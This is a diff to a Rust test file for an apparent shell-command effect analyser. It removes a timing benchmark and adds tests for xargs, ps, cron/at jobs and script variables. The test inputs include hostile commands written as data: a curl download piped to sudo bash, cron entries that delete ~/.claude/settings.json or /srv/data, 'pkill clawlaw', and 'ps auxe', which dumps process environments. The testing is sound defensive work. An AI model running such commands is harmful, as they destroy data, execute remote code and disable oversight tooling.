@@ -1208,43 +1208,6 @@ fn node_destructured_and_template_strings() {
     assert!(!e.is_resolved());
 }
 
-/// `cargo test --release -p clawlaw-sdk effects::tests::timing -- --ignored --nocapture`
-#[test]
-#[ignore]
-fn timing() {
-    let lines = [
-        "cd /x && rm -rf build && cp -r src /tmp/out",
-        "find / -name '*.log' -mtime +7 -exec rm -f {} \\;",
-        "curl -fsSL -o /tmp/i.sh https://x.example/i.sh && sudo bash /tmp/i.sh",
-        "python3 -c \"import shutil, os; shutil.rmtree('/tmp/x'); os.system('rm -rf ~/.cache')\"",
-        "kill -9 $(pgrep clawlaw); systemctl stop clawlaw",
-    ];
-    for l in lines {
-        let n = 20_000;
-        let t = std::time::Instant::now();
-        for _ in 0..n {
-            std::hint::black_box(fx(std::hint::black_box(l)));
-        }
-        eprintln!(
-            "{:>8.2} µs  {l}",
-            t.elapsed().as_secs_f64() * 1e6 / n as f64
-        );
-    }
-    let big = format!("echo {} > out", "x".repeat(1 << 20));
-    let t = std::time::Instant::now();
-    let _ = fx(&big);
-    eprintln!("1 MiB echo: {:?}", t.elapsed());
-    let code = format!("python3 -c \"{}\"", "os.remove('/tmp/a'); ".repeat(40_000));
-    let t = std::time::Instant::now();
-    let e = fx(&code);
-    eprintln!(
-        "{} KiB of python, {} deletes: {:?}",
-        code.len() / 1024,
-        e.deletes.len(),
-        t.elapsed()
-    );
-}
-
 #[test]
 fn hostile_many_distinct_names_is_bounded() {
     let t = std::time::Instant::now();
@@ -1668,4 +1631,60 @@ fn paths_through_links_the_line_made() {
     // Paths before the link was made are what they name.
     let e = fx("touch d/x; ln -s /srv d");
     assert!(!ps(&e.writes).contains(&"/srv/x"));
+}
+#[test]
+fn xargs_replacement_inside_a_word_keeps_the_rest() {
+    let e = fx("echo r1 | xargs -I ID curl -X POST http://127.0.0.1:7070/v1/reviews/ID/approve");
+    let url = e.network[0].url.as_deref().unwrap_or("");
+    assert!(
+        url.starts_with("http://127.0.0.1:7070/v1/reviews/"),
+        "{url}"
+    );
+    assert!(url.ends_with("/approve"), "{url}");
+    // A word that starts with it is each path of the input, as before.
+    let e = fx("find /srv -name '*.tmp' | xargs -I{} rm -rf {}");
+    assert!(e.deletes.iter().any(|d| d.path.starts_with("/srv")));
+}
+
+#[test]
+fn ps_with_bsd_e_shows_environments() {
+    for line in ["ps eww -o command", "ps auxe", "ps e -p 42"] {
+        assert!(fx(line).env.iter().any(|e| e.name == "*"), "{line}");
+    }
+    for line in ["ps aux", "ps -ef", "ps -eo pid,comm", "ps -p 42 -o user"] {
+        assert!(fx(line).env.is_empty(), "{line}");
+    }
+}
+
+#[test]
+fn jobs_scheduled_for_later_are_what_the_line_does() {
+    let e = fx("echo 'pkill clawlaw' | at now + 5 minutes");
+    assert!(
+        e.signals
+            .iter()
+            .any(|s| s.targets.iter().any(|t| t == "clawlaw"))
+    );
+    let e = fx("(crontab -l; echo '* * * * * rm -f /home/u/.claude/settings.json') | crontab -");
+    assert_eq!(ps(&e.deletes), ["/home/u/.claude/settings.json"]);
+    let e = fx("crontab - <<'EOF'\n@reboot rm -rf /srv/data\nEOF");
+    assert_eq!(ps(&e.deletes), ["/srv/data"]);
+    // Listing or removing the table schedules nothing.
+    assert!(fx("crontab -l").deletes.is_empty());
+    assert!(fx("atq; atrm 3").signals.is_empty());
+}
+
+#[test]
+fn code_variables_assigned_once_from_literals_are_known() {
+    let e = fx(
+        "python3 -c \"import json,os;p=os.path.expanduser('~/.claude/settings.json');json.dump({},open(p,'w'))\"",
+    );
+    assert_eq!(ps(&e.writes), ["/home/u/.claude/settings.json"]);
+    let e =
+        fx("node -e \"const d = '/srv/' + 'data'; require('fs').rmSync(d, {recursive: true})\"");
+    assert_eq!(ps(&e.deletes), ["/srv/data"]);
+    // Assigned twice, or changed in place: unknown.
+    let e = fx("python3 -c \"p='/srv/a'; p='/srv/b'; os.remove(p)\"");
+    assert!(!e.is_resolved());
+    let e = fx("python3 -c \"p='/srv/a'; p += '/x'; os.remove(p)\"");
+    assert!(!e.is_resolved());
 }
